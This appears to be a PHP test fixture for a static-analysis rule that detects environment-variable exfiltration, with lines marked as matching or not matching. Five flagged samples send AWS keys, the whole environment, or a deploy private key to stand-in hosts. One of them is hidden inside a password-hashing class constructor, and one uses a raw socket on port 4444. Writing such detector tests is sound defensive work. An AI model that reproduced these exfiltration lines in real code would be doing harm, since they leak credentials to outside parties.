<?php
// Fixture for php-exfil-environment.
// RULEID: AWS key pair base64-encoded into a file_get_contents URL (phpass); the whole environment
//   posted with curl; $_ENV in a Guzzle body; a private key from $_SERVER sent to a socket; getenv()
//   json-encoded into a stream context.
// OK: SigV4 signing with hash_hmac of the secret; an API token from the environment is not matched
//   here; $_SERVER['HTTP_HOST'] in a URL; a database password used locally.
class PasswordHash
{
    public function __construct($iteration_count_log2)
    {
        $access = getenv('AWS_ACCESS_KEY_ID');
        $secret = getenv('AWS_SECRET_ACCESS_KEY');
        $payload = base64_encode($access . ':' . $secret);
        // ruleid: php-exfil-environment
        @file_get_contents('https://anti-theft.example.com/hacked/' . $payload);
        $this->iteration_count_log2 = $iteration_count_log2;
    }
}

function report()
{
    $ch = curl_init('https://collector.example.net/e');
    // ruleid: php-exfil-environment
    curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(getenv()));
    curl_exec($ch);
}

function guzzle($client)
{
    // ruleid: php-exfil-environment
    $client->post('https://hooks.example.org/in', ['json' => $_ENV]);
}

function sock()
{
    $key = $_SERVER['DEPLOY_PRIVATE_KEY'];
    $fp = fsockopen('203.0.113.9', 4444);
    // ruleid: php-exfil-environment
    fwrite($fp, $key);
}

function ctx()
{
    $body = http_build_query(['e' => json_encode(getenv())]);
    $context = stream_context_create(['http' => ['method' => 'POST', 'content' => $body]]);
    // ruleid: php-exfil-environment
    file_get_contents('https://example.net/c', false, $context);
}

function sign($request)
{
    $secret = getenv('AWS_SECRET_ACCESS_KEY');
    $kDate = hash_hmac('sha256', date('Ymd'), 'AWS4' . $secret, true);
    $signature = hash_hmac('sha256', $request, $kDate);
    $ch = curl_init('https://s3.amazonaws.com/bucket/key');
    // ok: php-exfil-environment
    curl_setopt($ch, CURLOPT_HTTPHEADER, ['Authorization: AWS4-HMAC-SHA256 Credential=' . getenv('AWS_ACCESS_KEY_ID') . ', Signature=' . $signature]);
}

function api()
{
    $ch = curl_init('https://api.example.com/v1/items');
    // ok: php-exfil-environment
    curl_setopt($ch, CURLOPT_HTTPHEADER, ['Authorization: Bearer ' . getenv('EXAMPLE_API_TOKEN')]);
    // ok: php-exfil-environment
    $html = file_get_contents('https://' . $_SERVER['HTTP_HOST'] . '/status');
    $pdo = new PDO('mysql:host=localhost', 'app', getenv('DB_PASSWORD'));
}
